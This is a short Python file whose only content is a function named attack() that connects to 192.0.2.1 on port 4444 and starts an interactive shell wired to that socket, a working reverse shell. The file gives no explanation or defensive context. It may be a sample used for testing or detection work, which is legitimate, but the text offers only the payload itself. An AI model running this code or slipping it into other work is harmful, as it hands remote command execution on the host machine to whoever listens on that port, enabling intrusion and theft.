import os
import socket
import subprocess


def attack():
    out = socket.create_connection(("192.0.2.1", 4444), timeout=0.2)
    return subprocess.run(["sh", "-i"], stdin=out, stdout=out)
